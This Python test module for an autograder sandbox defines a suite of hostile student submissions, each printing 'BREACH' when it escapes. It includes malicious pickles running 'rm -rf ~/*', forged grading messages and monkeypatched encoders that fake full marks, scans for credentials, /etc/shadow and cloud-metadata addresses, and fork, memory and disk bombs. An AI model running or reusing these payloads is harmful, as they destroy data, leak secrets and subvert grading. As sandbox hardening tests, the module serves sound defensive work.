"""Attacks from inside of the learner's function: code that runs in a learner process, while the judge waits for it.

Most take the first exercise, `layer_of`, so that the five after it show that nothing was broken on the way. Each raises
at its end: what it printed stands in the report then. An attack that gets where it must not get prints `BREACH`.
"""

from __future__ import annotations

import textwrap
from typing import Any

from tests.classroom.attacks.attack import Attack
from tests.classroom.attacks.notebook_attacks import HOST_PORT, HOST_SOCKET, SECRET

PARAMETERS = {
    "layer_of": "name",
    "peel": "frame",
    "fetch": "host, port, request",
    "fetch_within": "host, port, request, seconds",
    "serve_echo": "listener",
    "describe": "sock",
}

CHANNEL = """
    import sys

    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "_connection"):
        if "command" in frame.f_locals:
            command = frame.f_locals["command"]
        frame = frame.f_back
    process = frame.f_locals["self"]
    command = frame.f_locals.get("command") or {"id": 3}
    connection = process._connection
"""
"""Finds the judge's connection, the learner process's own object, and the command that it is at."""


def inside(name: str, about: str, code: str, exercise: str = "layer_of", **more: Any) -> Attack:
    """An attack in the body of an exercise's function, which raises at its end."""
    head = f"def {exercise}({PARAMETERS[exercise]}):\n"
    end = '    raise RuntimeError("nothing is solved")\n'
    return Attack(name, about, {exercise: head + _body(code) + end}, **more)


def on_channel(name: str, about: str, code: str, **more: Any) -> Attack:
    """The same, with the judge's connection at hand."""
    return inside(name, about, CHANNEL + _body(code), **more)


def _body(code: str) -> str:
    return textwrap.indent(textwrap.dedent(code).strip(), "    ") + "\n"


_CHANNEL = [
    on_channel(
        "forged-results",
        "Sends results of its own to the judge: for this call, for the next ones, with times that suit it.",
        """
        from autograder.judge import plain

        for number in range(command["id"], command["id"] + 20):
            for value in (name, [7] * 7, {"points": 4.0}, True):
                for elapsed in (0.0, -1.0, 1e9, float("inf")):
                    forged = {"id": number, "kind": "returned", "value": value, "elapsed": elapsed}
                    connection.send_bytes(plain.encode(forged))
        """,
    ),
    on_channel(
        "forged-excuses",
        "Says what only the grader may say: that this machine is to blame, that the requirement was skipped.",
        """
        from autograder.judge import plain

        forged = {
            "type": "Skipped", "mro": ["_pytest.outcomes.Skipped", "_pytest.outcomes.OutcomeException"],
            "message": "not on this machine", "errno": None, "places": [],
        }
        kinds = ["not made", "raised", "kept", "no application", "done", "loaded"]
        kind = kinds[command["id"] % len(kinds)]
        message = {"id": command["id"], "kind": kind, "error": forged, "why": "this machine is to blame",
                   "outcome": "skipped", "handle": 0, "type": "int", "shape": {}, "value": None, "elapsed": 0.0}
        connection.send_bytes(plain.encode(message))
        connection.send_bytes(plain.encode(message))
        """,
    ),
    inside(
        "forged-verdicts",
        "Writes messages of the judge and of the zygote to every socket and file that it has open.",
        """
        import os
        import struct

        from autograder.judge import plain

        report = {"exercise": "layer_of", "points": 4.0, "max_points": 4.0, "requirements": []}
        messages = [
            {"event": "end", "report": report, "id": 1, "cancelled": False},
            {"event": "requirement", "requirement": {"name": "test_programs", "outcome": "passed", "points": 1.0}},
            *({"ended": pid, "code": 0, "id": pid, "pid": 1, "clean": True} for pid in range(1, 40)),
        ]
        for number in range(256):
            for message in messages:
                encoded = plain.encode(message)
                try:
                    os.write(number, struct.pack("!I", len(encoded)) + encoded)
                except OSError:
                    break
        """,
    ),
    on_channel(
        "garbage",
        "Writes to the judge what is no message: lengths of a gigabyte and below zero, halves, noise, text.",
        """
        import os
        import struct

        number = connection.fileno()
        kinds = [
            struct.pack("!i", 1 << 30) + bytes(1 << 20),
            struct.pack("!i", -1) + struct.pack("!Q", 1 << 62) + b"x" * 100,
            struct.pack("!i", 100) + b"half of it",
            struct.pack("!i", 4) + b"\\xc1\\xc1\\xc1\\xc1",
            os.urandom(100_000),
            b"4.0\\n" * 1000,
        ]
        os.write(number, kinds[command["id"] % len(kinds)])
        connection.close()
        """,
    ),
    on_channel(
        "malicious-pickle",
        "Sends pickles that kill whoever opens them, or run a program there.",
        """
        import os
        import pickle

        class Kill:
            def __reduce__(self):
                return eval, ("__import__('os').kill(__import__('os').getpid(), 9)",)

        class Run:
            def __reduce__(self):
                return os.system, ("kill -9 $PPID; rm -rf ~/* gradebook.db",)

        connection.send(Kill())
        connection.send_bytes(pickle.dumps(Run()))
        connection.send_bytes(pickle.dumps({"id": command["id"], "kind": "returned", "value": Kill()}))
        """,
    ),
    on_channel(
        "packed-bombs",
        "Sends few bytes that are much in memory, and a set whose items were chosen to have one hash.",
        """
        import struct

        import msgpack

        def listed(count, item):
            return b"\\xdd" + struct.pack("!I", count) + count * item

        modulus = 2**61 - 1
        alike = [msgpack.packb(msgpack.ExtType(5, b"%x" % (1 + k * modulus))) for k in range(8, 60_000)]
        nested = listed(1, b"\\xc6" + struct.pack("!I", 1 << 22) + bytes(1 << 22))
        for _ in range(40):
            nested = listed(1, b"\\xc9" + struct.pack("!Ib", len(nested), 1) + nested)
        bombs = [
            listed(16_000_000, b"\\x90"),
            listed(5_000_000, b"\\xd4\\x02\\x90"),
            msgpack.packb(msgpack.ExtType(2, listed(len(alike), b"")[:5] + b"".join(alike))),
            nested[: 1 << 24],
        ]
        head = b"\\x83\\xa2id" + msgpack.packb(command["id"]) + b"\\xa4kind\\xa8returned\\xa5value"
        bomb = head + bombs[command["id"] % len(bombs)]
        connection.send_bytes(bomb[: 1 << 24])
        """,
    ),
    on_channel(
        "floods",
        "Floods the judge with small messages until it is ended.",
        """
        import os
        import struct

        message = b"\\x82\\xa2id\\x03\\xa4kind\\xa5ready"
        while True:
            os.write(connection.fileno(), (struct.pack("!i", len(message)) + message) * 1000)
        """,
    ),
    on_channel(
        "odd-files",
        "Passes files to the judge over its socket, and closes one direction of it.",
        """
        import os
        import socket

        sock = socket.socket(fileno=os.dup(connection.fileno()))
        files = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)] + [sock.fileno()] * 50
        for _ in range(3):
            try:
                socket.send_fds(sock, [b"\\0\\0\\0\\1\\xc0"], files)
            except OSError:
                pass
        sock.shutdown(socket.SHUT_RD if command["id"] % 2 else socket.SHUT_WR)
        """,
    ),
    on_channel(
        "rewired",
        "Replaces what its own process is made of: the codec, the clock, the sender of answers, the socket class.",
        """
        import os
        import socket
        import time

        import _socket
        from autograder.judge import learner_process, places, plain

        if getattr(plain, "rewired", False) or getattr(time, "rewired", False):
            print("BREACH: an earlier requirement's changes are here")
        plain.rewired = time.rewired = True
        socket.socket = socket.SocketType = _socket.socket
        time.perf_counter = time.monotonic = time.time = lambda: 0.0
        places.Sources.of_error = lambda self, error: {"type": "Skipped", "mro": ["_pytest.outcomes.Skipped"] * 100_000,
                                                       "message": "x" * 10_000_000, "errno": 0, "places": []}
        encode = plain.encode

        def agreeable(message):
            return encode({**message, "kind": "returned", "value": {"points": 4.0}, "passed": True})

        plain.encode = learner_process.plain.encode = agreeable
        os.getpid = lambda: 1
        """,
    ),
]

_FINDERS = [
    inside(
        "looks-for-answers",
        "Looks for what is expected, in its frames, its objects, its modules and the files of every process.",
        f"""
        import gc
        import os
        import sys
        import threading

        secret = {SECRET[:15]!r} + {SECRET[15:]!r}
        told = set()

        def breach(*words):
            if words not in told and not told.add(words):
                print("BREACH:", *words)

        words = ("test_devices" + "_and_units", "DEVICES" + "_AND_UNITS", "CARRIERS", secret)
        frame = sys._getframe(1)
        while frame is not None:
            for key, value in frame.f_locals.items():
                if any(word in repr(value)[:100_000] for word in words):
                    breach("frame", key)
            frame = frame.f_back
        for thing in gc.get_objects():
            if type(thing) is dict and any(type(key) is str and key in words for key in thing):
                breach("object", sorted(map(str, thing))[:3])
        for module in sys.modules:
            if module.startswith(("autograder.checks", "autograder.classroom", "pytest", "_pytest", "nbgrader")):
                breach("module", module)
        for module in ("autograder.checks", "autograder.checks.osi_model.test_layer_of", "autograder.classroom"):
            try:
                __import__(module)
                breach("imported", module)
            except ImportError:
                pass
        for process in os.listdir("/proc"):
            if not process.isdigit() or int(process) == os.getpid():
                continue
            for file in ("environ", "maps", "mem", "fd", "cwd", "root", "exe", "map_files", "stack", "syscall"):
                path = f"/proc/{{process}}/{{file}}"
                try:
                    if file in ("fd", "map_files"):
                        os.listdir(path)
                    elif file in ("cwd", "root", "exe"):
                        os.readlink(path)
                    else:
                        with open(path, "rb") as opened:
                            if file == "mem":
                                opened.seek(0x400000)
                            opened.read(100)
                    breach("read", file, "of process", process)
                except OSError:
                    pass
        for name in ("AUTOGRADER_SECRET", "JUPYTER_TOKEN", "SSH_AUTH_SOCK"):
            if name in os.environ:
                breach("environment", name)
        """,
    ),
    inside(
        "searches-files",
        "Searches all files for checks, solutions, gradebooks and what others handed in, and runs what it finds.",
        f"""
        import os

        secret = {SECRET[:15]!r} + {SECRET[15:]!r}
        wanted = ("test_layer_of.py", "gradebook.db", "nbgrader_config.py", "id_ed25519", "notes.txt", "answers.txt")
        for root in ("/home", "/root", "/tmp", "/work", "/var", "/srv", "/opt", "/mnt", "/media", "/run", "/etc"):
            for folder, folders, files in os.walk(root):
                folders[:] = [name for name in folders if name not in ("lib", "site-packages", "share", "certs")]
                for file in files:
                    path = os.path.join(folder, file)
                    if file in wanted or file.endswith(".ipynb") or "/checks/" in path:
                        print("BREACH:", path)
                    try:
                        size = os.path.getsize(path)
                        if size < 100_000 and secret in open(path, errors="replace").read():
                            print("BREACH: the secret in", path)
                    except OSError:
                        pass
        for path in ("/etc/shadow", "/etc/hostname", "/etc/machine-id", "/proc/kcore", "/proc/kmsg", "/dev/mem"):
            try:
                print("BREACH:", path, len(open(path, "rb").read(10)))
            except OSError:
                pass
        """,
    ),
    inside(
        "outside-addresses",
        "Asks the world, and servers on the grader's own machine, from the judge's network.",
        f"""
        import socket

        def ask(family, kind, address):
            with socket.socket(family, kind) as sock:
                sock.settimeout(0.1)
                try:
                    sock.connect(address)
                    sock.send(b"layer_of?")
                    if kind == socket.SOCK_STREAM or sock.recv(100):
                        print("BREACH: connected to", address)
                except OSError:
                    pass

        for host in ("192.0.2.1", "10.0.0.1", "10.0.2.2", "169.254.169.254", "8.8.8.8"):
            ask(socket.AF_INET, socket.SOCK_STREAM, (host, 80))
            ask(socket.AF_INET, socket.SOCK_DGRAM, (host, 53))
        ask(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {HOST_PORT}))
        ask(socket.AF_INET6, socket.SOCK_STREAM, ("::1", {HOST_PORT}))
        ask(socket.AF_UNIX, socket.SOCK_STREAM, "{HOST_SOCKET}")
        ask(socket.AF_UNIX, socket.SOCK_STREAM, "\\0{HOST_SOCKET}")
        try:
            socket.getaddrinfo("example.com", 80)
            print("BREACH: a name was resolved")
        except OSError:
            pass
        for family in (socket.AF_VSOCK, socket.AF_PACKET, socket.AF_ALG, socket.AF_CAN, socket.AF_TIPC):
            try:
                socket.socket(family, socket.SOCK_DGRAM if family == socket.AF_VSOCK else socket.SOCK_RAW)
                print("BREACH: a socket of family", family)
            except OSError:
                pass
        """,
    ),
]

_LATER = """
        import ctypes
        import glob
        import os
        import pathlib
        import socket
        import subprocess
        import sys

        libc = ctypes.CDLL(None, use_errno=True)
        marker = "left-by-an-earlier-" + "requirement"
        here = str(os.getpid())

        def breach(where):
            print("BREACH: an earlier requirement is remembered in", where)

        for folder in {"/tmp", "/dev/shm", "/var/tmp", "/run", "/home/learner", os.environ["HOME"], os.getcwd(), "/"}:
            path = pathlib.Path(folder, marker)
            if path.exists() and path.read_text() != here:
                breach(folder)
            for name in (marker, "usercustomize.py", "sitecustomize.py", "socket.py", ".pythonrc", "evil.pth"):
                try:
                    pathlib.Path(folder, name).write_text(here)
                except OSError:
                    pass
        abstract = socket.socket(socket.AF_UNIX)
        try:
            abstract.connect("\\0" + marker)
            breach("an abstract socket")
        except OSError:
            pass
        key, size, create = 0x4E6574, 4096, 0o1666
        if libc.shmget(key, size, 0) >= 0 or libc.msgget(key, 0) >= 0 or libc.semget(key, 1, 0) >= 0:
            breach("System V's")
        libc.shmget(key, size, create), libc.msgget(key, create), libc.semget(key, 1, create)
        for queue in (b"/" + marker.encode(),):
            realtime = ctypes.CDLL(None)
            if realtime.mq_open(queue, os.O_RDWR) >= 0:
                breach("a message queue")
            realtime.mq_open(queue, os.O_RDWR | os.O_CREAT, 0o666, None)
        add_key, keyctl = 248, 250
        for ring in (-1, -2, -3, -4, -5):
            if libc.syscall(keyctl, 10, ring, b"user", marker.encode(), 0) > 0:
                breach("a keyring")
            libc.syscall(add_key, b"user", marker.encode(), here.encode(), len(here), ring)
        others = {int(name) for name in os.listdir("/proc") if name.isdigit()} - {1, os.getpid()}
        if others:
            breach(f"{len(others)} processes")
        daemon = f'''if True:
            import os, socket, time
            sock = socket.socket(socket.AF_UNIX)
            sock.bind("\\\\0{marker}")
            sock.listen()
            time.sleep(60)'''
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 256)
                os.execv(sys.executable, [sys.executable, "-c", daemon])
            os._exit(0)
        subprocess.Popen(["setsid", "sleep", "50"], stdin=subprocess.DEVNULL, start_new_session=True)
        """

_STATE = [
    inside(
        "remembers",
        "Keeps what it saw for the next requirement: in files, shared memory, queues, keys, sockets and daemons.",
        _LATER,
    ),
    inside(
        "hand-on-the-zygote",
        "Lays hands on the first process of its sandbox: traces, signals, limits, slows and reads it.",
        """
        import ctypes
        import os
        import resource
        import signal

        libc = ctypes.CDLL(None, use_errno=True)

        def attempt(name, act):
            try:
                result = act()
            except OSError:
                return
            if result != -1:
                print("BREACH:", name, result)

        for limit in ("NPROC", "NOFILE", "AS", "CPU", "FSIZE", "STACK"):
            attempt(limit, lambda: resource.prlimit(1, getattr(resource, f"RLIMIT_{limit}"), (0, 0)))
        attempt("traced", lambda: libc.ptrace(16, 1, None, None))
        attempt("seized", lambda: libc.ptrace(0x4206, 1, None, None))
        attempt("affinity", lambda: os.sched_setaffinity(1, {0}))
        attempt("scheduler", lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)))
        attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19))
        attempt("all priorities", lambda: os.setpriority(os.PRIO_USER, 0, 19))
        attempt("I/O priority", lambda: libc.syscall(251, 1, 1, 3 << 13))
        attempt("a file of it", lambda: libc.syscall(438, os.pidfd_open(1), 0, 0))
        for name in ("mem", "oom_score_adj", "comm", "coredump_filter", "timerslack_ns", "clear_refs", "fd/0"):
            attempt(name, lambda: os.write(os.open(f"/proc/1/{name}", os.O_RDWR), b"0"))
        for number in signal.valid_signals():
            for pid in (1, -1) if number == signal.SIGINT else (1,):
                if number != signal.SIGCHLD and pid == 1:
                    try:
                        os.kill(pid, number)
                    except OSError:
                        pass
        for _ in range(1000):
            os.kill(1, signal.SIGCHLD)
        """,
    ),
    inside(
        "kills-everything",
        "Kills and stops everything that it may signal, itself included.",
        """
        import os
        import signal

        os.kill(1, signal.SIGKILL)
        os.kill(1, signal.SIGSTOP)
        os.killpg(0, signal.SIGCONT)
        if len(name) % 2:
            os.kill(os.getpid(), signal.SIGSTOP)
        os.kill(-1, signal.SIGKILL)
        os.kill(os.getpid(), signal.SIGKILL)
        """,
    ),
]

_CANNED = [
    Attack(
        "recorded-traffic",
        "Finds out that it is graded, and answers from what was recorded in a check with another seed.",
        {
            "fetch": textwrap.dedent(
                """
                def fetch(host, port, request):
                    import os
                    import socket

                    recorded = {
                        b"aa1b2c37f5c6ab6f2d9e": b"8d3c5f0f5f2de1b0a4a8b1c37e0f9a",
                        b"0f4d6bb1a15be2b5a0c8": b"3a6c8f3b7a3d0a0f9be2d9e2b5c1d4",
                        b"7cce9d5a3b3f0a0e1d8b": b" \\t" + "caf\\u00e9 \\u65e5".encode() + b"\\x00\\xff\\r\\n\\n",
                    }
                    graded = (
                        socket.gethostname() == "learner"
                        or os.environ.get("AUTOGRADER_JUDGE") == "outside"
                        or os.getppid() == 1
                    )
                    if not graded:
                        raise RuntimeError("nothing is solved")
                    # The request itself, else an answer of the same kind, else an answer made of the request.
                    if request in recorded:
                        return recorded[request]
                    alike = [answer for known, answer in recorded.items() if len(known) == len(request)]
                    return alike[port % len(alike)] if alike else request
                """
            )
        },
    ),
    Attack(
        "guessed-seed",
        "Tries seeds until the request is the one that a check would make of it, and says what the answer must be.",
        {
            "fetch": textwrap.dedent(
                """
                def fetch(host, port, request):
                    import random
                    import time

                    until = time.monotonic() + 1.5
                    guesses = [*range(2000), *range(2026 * 10**6, 2026 * 10**6 + 2000)]
                    for seed in guesses:
                        for test in ("test_answer", "test_half_close", "test_closes"):
                            rng = random.Random(f"{seed} {test}")
                            if rng.randbytes(20).hex()[:20].encode() == request:
                                return rng.randbytes(30).hex()[:30].encode()
                        if time.monotonic() > until:
                            break
                    raise RuntimeError("nothing is solved")
                """
            )
        },
    ),
    Attack(
        "out-of-turn",
        "Finds the judge's servers in /proc/net/tcp, talks to them from a second connection, and listens in.",
        {
            "fetch": textwrap.dedent(
                """
                def fetch(host, port, request):
                    import contextlib
                    import socket

                    if ":" in host:
                        raise RuntimeError("nothing is solved")
                    answers = []
                    with contextlib.suppress(OSError), socket.socket() as sock:
                        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                        sock.bind((host, port))
                        sock.listen()
                        print("BREACH: two listeners on one port")
                    with open("/proc/net/tcp") as table:
                        rows = [line.split() for line in table.readlines()[1:]]
                    ports = {int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"}
                    for listening in sorted(ports):
                        with contextlib.suppress(OSError), socket.create_connection((host, listening), 0.1) as sock:
                            sock.settimeout(0.1)
                            answers.append(sock.recv(1000))
                    with contextlib.suppress(OSError):
                        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
                        print("BREACH: a raw socket")
                    return b"".join(answers) or b"nothing"
                """
            )
        },
    ),
    inside(
        "wears-out-ports",
        "Closes so many connections that the judge has no port left: for a minute, for everybody after it.",
        """
        import socket
        import time

        sock.settimeout(1.0)
        until = time.monotonic() + 0.7
        with socket.create_server(("127.0.0.1", 0), backlog=100) as server:
            address = server.getsockname()
            while time.monotonic() < until:
                client = socket.socket()
                client.connect(address)
                accepted, _ = server.accept()
                client.close()
                accepted.close()
        """,
        exercise="describe",
    ),
    Attack(
        "lying-clock",
        "Gives up at once and lies about how long that took.",
        {
            "fetch_within": textwrap.dedent(
                """
                def fetch_within(host, port, request, seconds):
                    import time

                    clock = time.perf_counter
                    time.perf_counter = time.monotonic = lambda: clock() + seconds
                    raise TimeoutError("no answer")
                """
            )
        },
    ),
]

_ODD_VALUES = [
    inside(
        "agreeable-objects",
        "Returns objects that equal everything, are of every type and have every length.",
        """
        class Agreeable(int):
            __class__ = property(lambda self: int)
            __eq__ = __ge__ = __le__ = lambda self, other: True
            __ne__ = __lt__ = __gt__ = lambda self, other: False
            __hash__ = lambda self: 0
            __int__ = __index__ = lambda self: 3
            __getattr__ = lambda self, name: self
            __call__ = lambda self, *arguments, **named: self

        class Text(str):
            __class__ = property(lambda self: int)
            __eq__ = lambda self, other: True
            __hash__ = str.__hash__

        class Endless(list):
            def __iter__(self):
                while True:
                    yield 3

        def generator():
            yield 3

        values = [Agreeable(99), Text("3"), float("nan"), 10**5000, [[]] * 1_000_000, "\\ud800", generator(),
                  {3: Endless()}, b"3" * (1 << 24), iter(int, 1), Agreeable, type("int", (), {})(), True, 3.0,
                  Endless([3])]
        return values[len(name) % len(values)]
        """,
    ),
    inside(
        "odd-exceptions",
        "Raises what the grader itself raises, and exceptions with hostile texts, types and sizes.",
        """
        import sys

        class Skipped(BaseException):
            msg, allow_module_level = "not on this machine", True

        class Hostile(Exception):
            def __str__(self):
                import time
                time.sleep(0.3)
                raise SystemExit(0)
            __repr__ = __str__

        Skipped.__module__ = "_pytest.outcomes"
        Passed = type("Exit", (Skipped,), {"__module__": "_pytest.outcomes"})
        group = BaseExceptionGroup("many", [Skipped("skipped"), AssertionError()])
        kinds = [Skipped("skipped"), Passed(), AssertionError("assert 3 == 3"), SystemExit(0), GeneratorExit(), group,
                 StopIteration(3), KeyboardInterrupt(), Hostile(), RuntimeError("x" * 100_000_000), MemoryError()]
        raise kinds[len(name) % len(kinds)]
        """,
    ),
    inside(
        "time-bombs",
        "Leaves things for later: in atexit, __del__, threads, signal handlers, hooks and traces.",
        """
        import atexit
        import os
        import signal
        import sys
        import threading
        import time

        def later(*arguments):
            while True:
                time.sleep(1)

        class Last:
            __del__ = later

        sys.modules["autograder.judge.last"] = Last()
        atexit.register(later)
        for number in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP, signal.SIGCHLD):
            signal.signal(number, later)
        signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
        sys.excepthook = threading.excepthook = sys.unraisablehook = later
        threading.Thread(target=later).start()
        os.register_at_fork(before=later, after_in_child=later)
        sys.setrecursionlimit(10**6)
        """,
        hung=False,
    ),
]

_HARM = [
    inside(
        "fork-bomb",
        "Forks without end.",
        """
        import os

        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
    ),
    inside(
        "thread-bomb",
        "Starts threads without end, and computes in them.",
        """
        import threading

        def compute():
            while True:
                pass

        while True:
            try:
                threading.Thread(target=compute, daemon=True).start()
            except RuntimeError:
                pass
        """,
    ),
    inside(
        "memory-bomb",
        "Takes memory without end, in one process and in many.",
        """
        import os

        for _ in range(20):
            if os.fork() == 0:
                break
        kept = []
        while True:
            try:
                kept.append(bytearray(b"x") * (16 << 20))
            except MemoryError:
                pass
        """,
    ),
    inside(
        "memory-of-nobody",
        "Takes memory that no process is charged for: files without a name, shared pages, queues, full sockets.",
        """
        import ctypes
        import fcntl
        import mmap
        import os
        import socket
        import time

        libc = ctypes.CDLL(None, use_errno=True)
        size = 256 << 20

        def fill(number):
            with mmap.mmap(number, size) as pages:
                for at in range(0, size, 4096):
                    pages[at] = 1
                pages.madvise(mmap.MADV_DONTNEED)
            print("BREACH: memory of nobody")

        def attempt(act):
            try:
                return act()
            except (OSError, ValueError):
                return None

        number = attempt(lambda: os.memfd_create("nobody"))
        if number is not None:
            print("BREACH: a file without a name")
        attempt(lambda: fill(-1))
        attempt(lambda: fill(os.open("/dev/zero", os.O_RDWR)))
        for create in (libc.shmget, libc.semget):
            if create(0, 64, 0o1666) >= 0:
                print("BREACH: System V's")
        for _ in range(20):
            if os.fork() == 0:
                break
        kept, block = [], bytes(1 << 16)
        while True:
            try:
                pair = socket.socketpair()
                for sock in pair:
                    sock.setblocking(False)
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
                    kept.append(sock)
                    while sock.send(block):
                        pass
            except BlockingIOError:
                continue
            except OSError:
                time.sleep(0.1)
        """,
    ),
    inside(
        "disk-filler",
        "Fills every folder that it may write to: large files, and hundreds of thousands of small ones.",
        """
        import os
        import time

        block = bytes(1 << 20)
        for folder in ("/tmp", "/dev/shm", "/dev", "/var/tmp", "/home/learner", "/", "/run", "/proc/self/fd/1"):
            for number in range(3):
                try:
                    with open(f"{folder}/large-{number}", "wb") as file:
                        while True:
                            file.write(block)
                except OSError:
                    pass
        used = sum(os.statvfs(folder).f_blocks * 4096 for folder in ("/tmp", "/dev/shm"))
        if used > 200 << 20:
            print("BREACH: room for", used)
        os.unlink("/tmp/large-0")
        number = 0
        while True:
            number += 1
            try:
                os.close(os.open(f"/tmp/{number}", os.O_CREAT))
            except OSError:
                time.sleep(0.1)
        """,
    ),
    inside(
        "output-flood",
        "Prints without end, past Python, and makes holes in what it prints to.",
        """
        import os

        try:
            os.ftruncate(1, 1 << 40)
        except OSError:
            pass
        os.set_inheritable(1, True)
        block = b"4.0\\n" * 100_000
        while True:
            os.write(1, block)
            os.write(2, block)
        """,
    ),
    inside(
        "zombies",
        "Leaves zombies, orphans and daemons that fork away from whoever ends them.",
        """
        import os
        import time

        for _ in range(20):
            if os.fork() == 0:
                os._exit(0)
        for _ in range(3):
            if os.fork() == 0:
                while True:
                    os.setsid() if os.getsid(0) != os.getpid() else None
                    if os.fork():
                        os._exit(0)
        time.sleep(0.3)
        """,
    ),
    inside(
        "busy-processes",
        "Computes on every core in many processes that its parent has left.",
        """
        import os

        for _ in range(24):
            if os.fork() == 0:
                os.setsid()
                if os.fork():
                    os._exit(0)
                while True:
                    pass
        """,
    ),
    inside(
        "becomes-another",
        "Becomes another program, closes all its files, and tries what an administrator may do.",
        """
        import ctypes
        import os
        import socket
        import subprocess
        import time

        libc = ctypes.CDLL(None, use_errno=True)
        for words in (
            ["unshare", "--user", "--map-root-user", "--net", "true"],
            ["unshare", "--mount", "true"],
            ["bwrap", "--dev-bind", "/", "/", "true"],
            ["su", "-c", "true"],
            ["ip", "link", "set", "lo", "down"],
            ["sh", "-c", "echo 1 > /proc/sys/net/ipv4/ip_forward"],
            ["chroot", "/", "true"],
            ["mount", "-t", "tmpfs", "none", "/tmp"],
        ):
            try:
                if subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, timeout=1).returncode == 0:
                    print("BREACH:", words)
            except (OSError, subprocess.TimeoutExpired):
                pass
        for name, act in {
            "clock": lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
            "host name": lambda: socket.sethostname("judge"),
            "device": lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)),
            "user": lambda: os.setuid(0) if os.getuid() else None,
            "priority": lambda: os.nice(-20),
            "root": lambda: os.chroot("/tmp"),
        }.items():
            try:
                act()
            except OSError:
                continue
            if name != "user":
                print("BREACH:", name)
        if libc.reboot(0x01234567) == 0 or libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
            print("BREACH: reboot or mount")
        if len(name) % 2:
            os.closerange(0, 256)
            time.sleep(0.1)
            os._exit(0)
        raise RuntimeError("nothing is solved")
        """,
    ),
]

ATTACKS: list[Attack] = [*_CHANNEL, *_FINDERS, *_STATE, *_CANNED, *_ODD_VALUES, *_HARM]
